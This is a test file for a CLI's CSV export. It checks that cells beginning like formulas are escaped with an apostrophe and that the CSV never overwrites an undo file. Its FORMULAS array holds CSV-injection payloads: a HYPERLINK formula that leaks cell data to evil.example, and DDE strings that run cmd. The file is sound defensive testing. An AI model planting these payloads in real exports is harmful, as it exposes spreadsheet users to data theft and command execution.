// Issue 16, High 4: no CSV the CLI writes for people carries a live spreadsheet formula. Cells that
// start with =, +, -, @, a tab or a carriage return get a leading apostrophe (OWASP); the CSV the
// CLI sends to the Bulk API keeps values unchanged. Also: a CSV never replaces an undo file.
import '../cli/harness.js';
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanUpHome, loginToLocalOrg, runCommand } from '../cli/harness.js';
import { startLocalOrg, type LocalOrg } from '../local-org/index.js';
import Identify, { type IdentifyResult } from '../../src/commands/mam/identify.js';
import { CsvParser, csvLine, spreadsheetLine } from '../../src/org/csv.js';

const TODAY = '2026-11-24';
const dir = mkdtempSync(join(tmpdir(), 'mam-csv-'));
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const parse = (text: string): string[][] => {
  const parser = new CsvParser();
  return [...parser.push(text), ...parser.end()];
};

describe('CSV formula injection (issue 16, High 4)', () => {
  it('spreadsheet cells that start like a formula get an apostrophe; numbers and plain text do not', () => {
    const [row] = parse(spreadsheetLine([...FORMULAS, 'Acme', -5, 12.5, true, null]));
    assert.deepEqual(row, [...FORMULAS.map((f) => `'${f}`), 'Acme', '-5', '12.5', 'true', '']);
  });

  it('the Bulk API CSV keeps values exactly as they are', () => {
    assert.deepEqual(parse(csvLine(FORMULAS))[0], FORMULAS);
  });

  describe('identify --csv over HTTP', () => {
    let org: LocalOrg;
    before(async () => {
      org = await startLocalOrg({ seed: 'data/sample-data-plan.json', today: TODAY });
      await loginToLocalOrg(org.instanceUrl, org.accessToken, 'csv-org');
    });
    after(async () => {
      await org.close();
      cleanUpHome();
    });

    it('accounts named like formulas land in the CSV as text', async () => {
      const dry = await runCommand<IdentifyResult>(Identify, ['--target-org', 'csv-org', '--as-of', TODAY]);
      const selected = dry.result?.selected.map((c) => c.id) ?? [];
      assert.ok(selected.length >= FORMULAS.length);
      FORMULAS.forEach((name, i) => {
        const account = org.store.find(selected[i]);
        if (account) account.record.Name = name;
      });
      org.store.touch();
      const csv = join(dir, 'candidates.csv');
      const { error } = await runCommand<IdentifyResult>(Identify, ['--target-org', 'csv-org', '--as-of', TODAY, '--csv', csv]);
      assert.equal(error, undefined, error?.message);
      const rows = parse(readFileSync(csv, 'utf8'));
      const names = rows.slice(1).map((r) => r[1]);
      for (const name of FORMULAS) assert.ok(names.includes(`'${name}`), `${JSON.stringify(name)} neutralised`);
      for (const cell of rows.slice(1).flat()) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-\D/.test(cell), `no live formula: ${JSON.stringify(cell)}`);
    });

    it('refuses to write the CSV over an undo file (the same path or any existing undo file)', async () => {
      const undo = join(dir, 'undo.json');
      const content = JSON.stringify({ kind: 'mam-identify-undo', version: 1, orgId: org.orgId, createdAt: TODAY, changes: [] });
      writeFileSync(undo, content);
      const same = await runCommand(Identify, ['--target-org', 'csv-org', '--as-of', TODAY, '--apply', '--undo-file', join(dir, 'new-undo.json'), '--csv', join(dir, 'new-undo.json')]);
      assert.equal(same.error?.name, 'CsvIsUndoFileError');
      const existing = await runCommand(Identify, ['--target-org', 'csv-org', '--as-of', TODAY, '--csv', undo]);
      assert.equal(existing.error?.name, 'CsvIsUndoFileError');
      assert.equal(readFileSync(undo, 'utf8'), content, 'undo file untouched');
    });
  });
});
